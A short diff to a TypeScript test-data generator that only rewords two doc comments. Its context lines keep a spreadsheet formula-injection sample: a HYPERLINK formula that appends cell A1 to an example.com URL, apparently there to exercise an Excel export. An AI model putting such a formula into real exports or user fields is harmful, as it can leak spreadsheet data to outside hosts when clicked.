@@ -23,7 +23,7 @@ export interface HostProfile extends Host {
 export interface Person {
   profile: HostProfile;
   motto: string | null;
-  /** The agreed commission rate in percent, or null if the default applies. */
+  /** The host's agreed commission rate in percent, or null if the default applies. */
   rate: number | null;
   weight: number;
 }
@@ -43,7 +43,7 @@ const towns = "Innsbruck, Austria|Boulder, CO|Bergen|Zürich|Leeds, UK|São Paul
 const mottos = "Slow is smooth|Carpe diem, carpe coffee|Leave it better|One more bend…".split("|");
 const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linkedin".split("|");
 
-/** An introduction that is a spreadsheet formula, to demonstrate `export --excel`. */
+/** A host's introduction that is a spreadsheet formula, to demonstrate `export --excel`. */
 const formula = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
 
 export function createPeople(seed: number): Person[] {
